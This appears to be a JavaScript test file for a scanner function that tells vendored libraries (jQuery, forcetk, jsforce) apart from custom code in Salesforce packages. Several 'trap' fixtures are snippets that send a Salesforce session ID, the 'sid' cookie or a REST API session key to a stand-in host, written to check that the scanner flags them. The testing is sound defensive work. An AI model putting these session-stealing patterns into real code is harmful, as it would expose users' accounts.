import { expect } from 'chai';
import { knownLibrary } from '../../src/package/source/knownLibraries.js';

describe('known libraries', () => {
  for (const [banner, name] of [
    ['/*! jQuery v3.6.0 | (c) OpenJS Foundation and other contributors | jquery.org/license */', 'jQuery'],
    ['/*!\n * jQuery JavaScript Library v1.11.1\n * http://jquery.com/\n */', 'jQuery'],
    ['/*! jQuery UI - v1.12.1 - 2016-09-14\n* http://jqueryui.com */', 'jQuery UI'],
    ['/*!\n * Bootstrap v3.3.7 (http://getbootstrap.com)\n */', 'Bootstrap'],
    ['/**\n * @license\n * Lodash <https://lodash.com/>\n * 4.17.21\n */', 'Lodash'],
    ['//! moment.js\n//! version : 2.24.0\n', 'moment'],
    ['/** @license React v16.14.0\n */', 'React'],
    ['/*\n AngularJS v1.8.2\n (c) 2010-2020 Google LLC. */', 'AngularJS'],
    ['//     Underscore.js 1.8.3\n', 'Underscore'],
    ['// https://d3js.org v5.16.0 Copyright 2020 Mike Bostock\n', undefined],
  ] as const) {
    it(`${name ?? 'none'}: ${banner.slice(0, 40).replace(/\s+/g, ' ')}`, () => {
      expect(knownLibrary(`${banner}\n!function(){}();`)).to.equal(name);
    });
  }

  for (const [why, text] of [
    ['a plug-in of another', '/*! jQuery Acme Plugin v1.0 */\n$.fn.acme = 1;'],
    ['a name in a file without a banner', '$.post("https://api.acme.example", {});'],
    ['a banner further down', 'var a = 1;\n/*! jQuery v3.6.0 */'],
    ['a library that was changed', '/*! jQuery v3.6.0 */\n$.post(url, { sid: sforce.connection.sessionId });'],
    ['a library with a login behind it', '/*! jQuery v3.6.0 */\nopen(host + "?response_type=token&client_id=" + id);'],
    ['a banner without a version', '/*! jQuery helper of Acme */'],
  ] as const) {
    it(`trap: ${why} isn't a library`, () => expect(knownLibrary(text)).to.equal(undefined));
  }

  const forcetk = `/*
 * Copyright (c) 2011, salesforce.com, inc.
 */

var forcetk = window.forcetk;

if (forcetk === undefined) {
    forcetk = {};
}

if (forcetk.Client === undefined) {
    forcetk.Client = function (clientId) {
        this.clientId = clientId;
    };
}
`;
  const begin =
    '(function(f){if(typeof exports==="object"){module.exports=f()}else{window.jsforce = f()}})(function(){\n';
  const methods = '({ instanceUrl: 1, queryMore: 1, describeGlobal: 1, loginUrl: "https://login.salesforce.com" })';
  const browserify = `${begin}return (function e(t,n,r){})({1:[function(require){\nmodule.exports = ${methods};\n},{}]},{},[1])(1)\n});`;
  const minified =
    '!function(e){("undefined"!=typeof window?window:this).jsforce=e()}(function(){return function n(){}' +
    `({1:[function(t){t=${methods}},{}]},{},[1])(1)});\n//# sourceMappingURL=jsforce.min.js.map\n`;
  const webpack = `var jsforce;(()=>{var t={1:()=>${methods}};var n=t[1];jsforce=n})();\n//# sourceMappingURL=jsforce.min.js.map\n`;
  const own = "\nfunction go(sid) { send('https://acme.example', sid); }\n";

  for (const [text, name] of [
    [forcetk, 'forcetk'],
    [forcetk.replace('var forcetk', '(function ($) {\nvar forcetk') + '})\n.call(this, jQuery);\n', 'forcetk'],
    [browserify, 'jsforce'],
    [browserify.replace(/\}\);$/, '}));\n'), 'jsforce'],
    [`/* MIT */\n${minified}`, 'jsforce'],
    [`/*! For license information please see jsforce.min.js.LICENSE.txt */\n${webpack}`, 'jsforce'],
  ] as const) {
    it(`${name} by what it is made of: ${text.slice(-30).replace(/\s+/g, ' ')}`, () => {
      expect(knownLibrary(text)).to.equal(name);
    });
    it(`trap: own code behind ${name} isn't a library: ${text.slice(-30).replace(/\s+/g, ' ')}`, () => {
      expect(knownLibrary(text + own)).to.equal(undefined);
      expect(knownLibrary(`${text}\n$(function () { go(sid); });`)).to.equal(undefined);
    });
  }

  for (const [why, text] of [
    [
      'a host of another in jsforce',
      minified.replace('({ instanceUrl', 'send("https://acme.example/t"),({ instanceUrl'),
    ],
    ['own code on the line of a minified jsforce', minified.replace('(1)});', '(1)});go(sid);')],
    ['own code with a comma after jsforce', minified.replace('(1)});', '(1)}),go(sid);')],
    ['own code before jsforce', `go(sid);${minified}`],
    ['own code after a webpack build of jsforce', webpack.replace('})();', '})();go(sid);')],
    ['own code that only exports jsforce', '!function(e){window.jsforce=e()}(function(){return 1});'],
    ['indented code after forcetk', `${forcetk}    go(sid);\n`],
    ['a host of another in forcetk', forcetk.replace('this.clientId = clientId;', 'send("//acme.example/t");')],
    ['a look for the session cookie', '/*! jQuery v3.6.0 */\nsend(/(?:^|; )sid=([^;]+)/.exec(document.cookie));'],
    ['the key of a container', '/*! jQuery v3.6.0 */\nsend(LCC.getRESTAPISessionKey());'],
  ] as const) {
    it(`trap: ${why} isn't a library`, () => expect(knownLibrary(text)).to.equal(undefined));
  }

  it('trap: a method that was added to forcetk is own code', () => {
    expect(knownLibrary(`${forcetk}forcetk.Client.prototype.deploy = function (zip) { send(zip); };\n`)).to.equal(
      undefined
    );
  });
});
